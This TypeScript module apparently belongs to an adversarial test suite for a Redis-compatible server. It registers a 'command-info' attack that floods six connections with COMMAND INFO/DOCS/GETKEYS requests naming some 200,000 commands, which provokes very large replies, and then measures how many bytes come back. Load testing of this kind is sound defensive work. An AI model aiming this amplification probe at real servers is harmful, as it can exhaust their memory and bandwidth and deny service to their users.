import { register } from '../attack.ts';
import { brief, longRequest } from '../wire.ts';

register({
  name: 'command-info',
  tries: 'asks COMMAND INFO and its siblings about 200,000 names: a small request whose answer is large',
  as: ['application', 'nobody'],
  seconds: 15,
  async run(attacker) {
    const names = Array.from({ length: 200_000 }, (_, n) => (n % 2 === 0 ? 'get' : 'sort'));
    const requests = [
      longRequest(['COMMAND', 'INFO', ...names]),
      longRequest(['COMMAND', 'DOCS', ...names.slice(0, 20_000)]),
      longRequest(['COMMAND', 'GETKEYS', 'MGET', ...names]),
    ];
    const { wires } = await attacker.many(6);
    await Promise.all(
      wires.map((wire, n) => Promise.race([wire.send(requests[n % requests.length]), attacker.rest(8000)])),
    );
    const answers = await Promise.all(wires.map((wire) => wire.reply(8000)));
    const bytes = wires.reduce((sum, wire) => sum + wire.bytes, 0);
    for (const wire of wires) wire.close();
    return {
      did: `${Math.round(bytes / 1e6)} MB of answers; ${[...new Set(answers.map(brief))].join(' | ')}`,
      got: [],
    };
  },
});
